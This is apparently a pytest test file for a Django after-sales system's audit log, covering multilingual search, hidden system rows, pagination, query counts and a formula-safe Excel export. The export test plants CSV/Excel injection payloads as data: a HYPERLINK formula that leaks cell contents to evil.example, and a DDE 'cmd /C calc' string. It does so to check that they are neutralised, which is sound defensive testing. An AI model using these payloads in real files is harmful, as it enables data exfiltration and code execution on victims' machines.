"""The audit log as people search it: by a person's name, by an action's name in their own
language, by an object's number; the system's rows hidden unless asked for; the total, pages
back and forth, the Excel export of what was found (formula-safe, itself audited); and the
same few queries whatever the size of the table."""

from __future__ import annotations

import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from aftersales.core.audit import audit_record
from aftersales.core.exports import is_inert
from aftersales.core.models import AuditLog

pytestmark = pytest.mark.django_db
URL = "core:audit_log"
EXPORT = "core:audit_export"
CASE_UPDATE_ZH = "服务单详情修改"
ZH = {"HTTP_ACCEPT_LANGUAGE": "zh-hans"}
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


def rows(html: bytes | str) -> int:
    text = html.decode() if isinstance(html, bytes) else html
    return text.count('data-testid="audit-row"')


def total(html: bytes) -> str:
    text = html.decode()
    return text.split('data-testid="audit-total">')[1].split("<")[0]


def count_in(html: bytes) -> int:
    return int(re.search(r"\d+", total(html)).group())


@pytest.fixture
def log(users, cases):
    """A dispatcher named 李调度 dispatches on Alice's case; an agent changes the case; the
    system recomputes its deadlines."""
    dispatcher, agent = users["dispatcher"], users["agent"]
    dispatcher.display_name = "李调度"
    dispatcher.save(update_fields=["display_name"])
    case = cases["alice_a"]
    audit_record(actor=dispatcher, action="workorder.assign", obj=case, after={"x": 1})
    audit_record(actor=agent, action="case.update", obj=case, after={"title": "新标题"})
    audit_record(actor=None, action="sla.recompute", obj=case, after={"due": "later"})
    return {"case": case, "dispatcher": dispatcher, "agent": agent}


def test_by_person_name_action_label_and_number(client, users, log):
    client.force_login(users["supervisor"])
    url = reverse(URL)
    html = client.get(url, {"actor": "李调度"}, **ZH).content
    assert rows(html) == 1 and 'data-action="workorder.assign"' in html.decode()
    assert rows(client.get(url, {"actor": "调度"}, **ZH).content) == 1  # part of the name
    assert rows(client.get(url, {"actor": "dispatcher"}, **ZH).content) == 1  # user name
    # the action by its name in the reader's language, not its code
    html = client.get(url, {"action": "派工"}, **ZH).content
    assert rows(html) == 1 and 'data-action="workorder.assign"' in html.decode()
    assert rows(client.get(url, {"action": "dispatched"}, **EN).content) == 1
    assert rows(client.get(url, {"action": "Dispatched"}, **EN).content) == 1
    assert rows(client.get(url, {"action": "派工"}, **EN).content) == 0
    # the number, as typed (case does not matter)
    number = log["case"].number
    html = client.get(url, {"number": number}, **ZH).content
    assert rows(html) == 2  # dispatcher and agent; the system's recompute is hidden
    assert rows(client.get(url, {"number": number.lower()}, **ZH).content) == 2
    assert rows(client.get(url, {"number": "SC-1999-000001"}, **ZH).content) == 0
    # combined: the agent's change of that case
    html = client.get(url, {"number": number, "actor": "agent"}, **ZH).content
    assert rows(html) == 1 and 'data-action="case.update"' in html.decode()


def test_system_rows_hidden_by_default_with_a_toggle(client, users, log):
    client.force_login(users["auditor"])
    url = reverse(URL)
    number = log["case"].number
    html = client.get(url, **ZH).content.decode()
    assert 'data-action="sla.recompute"' not in html
    assert (
        'data-testid="audit-system"' in html
        and " checked" not in html.split("audit-system")[1][:40]
    )
    html = client.get(url, {"number": number, "system": "on"}, **ZH).content.decode()
    everything = AuditLog.objects.filter(object_ref=number).count()
    assert everything > 2 and rows(html) == everything  # the case's creation by the system too
    assert 'data-action="sla.recompute"' in html
    assert "期限已重新计算" in html  # shown by its name


def test_total_and_pages_back_and_forth(client, users):
    auditor = users["auditor"]
    AuditLog.objects.bulk_create(
        AuditLog(actor=auditor, actor_label="auditor", action="test.page", object_type="x",
                 object_id=str(i), object_repr=f"row {i}")
        for i in range(1, 121)
    )  # fmt: skip
    client.force_login(auditor)
    url = reverse(URL)
    htmx = {"HX-Request": "true", "HX-Target": "audit-results"}

    def link(html: str, testid: str) -> str:
        return html.split(f'data-testid="{testid}" href="')[1].split('"')[0].replace("&amp;", "&")

    first = client.get(url, {"action": "test.page"}, **EN).content.decode()
    assert total(first.encode()) == "120 records"
    assert rows(first) == 50 and "row 120<" in first and "row 71<" in first
    assert 'data-testid="previous-page"' not in first
    second = client.get(url + link(first, "next-page"), headers=htmx, **EN).content.decode()
    assert rows(second) == 50 and "row 70<" in second and "row 21<" in second
    assert total(second.encode()) == "120 records"
    third = client.get(url + link(second, "next-page"), headers=htmx, **EN).content.decode()
    assert rows(third) == 20 and "row 20<" in third and "row 1<" in third
    assert 'data-testid="next-page"' not in third
    back = client.get(url + link(third, "previous-page"), headers=htmx, **EN).content.decode()
    assert rows(back) == 50 and "row 70<" in back and "row 21<" in back and "row 71<" not in back
    back = client.get(url + link(back, "previous-page"), headers=htmx, **EN).content.decode()
    assert rows(back) == 50 and "row 120<" in back
    assert 'data-testid="previous-page"' not in back  # the first page again
    assert 'data-testid="next-page"' in back
    assert client.get(url, {"before": "%%%"}).status_code == 422


def test_export_of_the_filtered_rows_is_formula_safe_and_audited(client, users, log):
    agent = log["agent"]
    audit_record(
        actor=agent,
        action="case.update",
        obj=log["case"],
        object_repr='=HYPERLINK("http://evil.example/?"&A1,"点我")',
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
        after={"title": "=1+1"},
    )
    client.force_login(users["supervisor"])
    response = client.get(reverse(EXPORT), {"actor": "agent"}, **ZH)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["时间", "人员", "操作"]
    body = values[1:]
    assert len(body) == 2 and {r[2] for r in body} == {CASE_UPDATE_ZH}
    assert all(r[1] == str(agent) for r in body)
    assert all(r[4] == log["case"].number for r in body)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f" and is_inert(cell.value), cell.value
    assert body[0][5].startswith("'=HYPERLINK") and body[0][7].startswith("'@SUM")
    refused = client.get(reverse(EXPORT), {"date_from": "2026-03-02", "date_to": "2026-03-01"})
    assert refused.status_code == 422 and refused["Content-Type"].startswith("text/plain")
    exported = AuditLog.objects.filter(action="audit.export").get()
    assert exported.actor == users["supervisor"] and exported.after["rows"] == 2
    assert exported.after["filters"] == {"actor": "agent"}
    # the page's export link carries the search
    page = client.get(reverse(URL), {"actor": "agent"}, **ZH).content.decode()
    assert reverse(EXPORT) + "?actor=agent" in page.replace("&amp;", "&")
    assert client.get(reverse(EXPORT)).status_code == 200
    client.force_login(users["agent"])
    assert client.get(reverse(EXPORT)).status_code == 403


def test_a_large_log_costs_the_same_few_queries(client, users, log):
    """Some thousands of rows: every search is the same few indexed queries (the page, the
    count, the check for a previous page; the name and action look-ups when used)."""
    auditor = users["auditor"]
    people = [users[r] for r in ("agent", "dispatcher", "supervisor")]
    AuditLog.objects.bulk_create(
        AuditLog(
            actor=None if i % 3 == 0 else people[i % 3],
            actor_label="system" if i % 3 == 0 else people[i % 3].username,
            action=("sla.recompute", "case.update", "workorder.assign")[i % 3],
            object_type="cases.case",
            object_id=str(i % 97),
            object_ref=f"SC-2026-{i % 97:06d}",
            object_repr=f"SC-2026-{i % 97:06d} 空调不制冷",
        )
        for i in range(4000)
    )
    client.force_login(auditor)
    url = reverse(URL)
    searches = [
        {},
        {"system": "on"},
        {"actor": "李调度"},
        {"action": "派工"},
        {"number": "SC-2026-000042"},
        {"actor": "agent", "action": "修改", "number": "SC-2026-000042"},
    ]
    counts = []
    for params in searches:
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url, params, **ZH)
        assert response.status_code == 200
        counts.append(len(ctx.captured_queries))
        audit_queries = [q["sql"] for q in ctx.captured_queries if "core_auditlog" in q["sql"]]
        assert len(audit_queries) <= 3, audit_queries  # the page, the count, the action codes
        if connection.vendor == "sqlite":
            for sql in audit_queries:
                if "ORDER BY" not in sql:
                    continue
                with connection.cursor() as cursor:
                    cursor.execute("EXPLAIN QUERY PLAN " + sql.replace("%s", "?"))
                    plan = " ".join(str(r[-1]) for r in cursor.fetchall())
                assert "TEMP B-TREE FOR ORDER BY" not in plan, (sql, plan)
    # a next page adds only the check for a previous one
    first = client.get(url, {"system": "on"}, **ZH).content.decode()
    href = first.split('data-testid="next-page" href="')[1].split('"')[0].replace("&amp;", "&")
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url + href, **ZH).status_code == 200
    assert len(ctx.captured_queries) <= counts[1] + 1
    assert max(counts) - min(counts) <= 3, counts
    print("queries per search:", dict(zip(map(str, searches), counts, strict=True)))
    # the number search finds 4000/97 rows of that case, without the system's
    html = client.get(url, {"number": "SC-2026-000042"}, **ZH).content
    expected = sum(1 for i in range(4000) if i % 97 == 42 and i % 3 != 0)
    assert count_in(html) == expected


def test_api_finds_records_by_number(client, users, log):
    client.force_login(users["auditor"])
    number = log["case"].number
    body = client.get("/api/v1/audit", {"number": number.lower()}).json()
    assert {item["action"] for item in body["items"]} >= {"workorder.assign", "case.update"}
    assert {item["object_ref"] for item in body["items"]} == {number}
    assert client.get("/api/v1/audit", {"number": "SC 1"}).status_code == 422
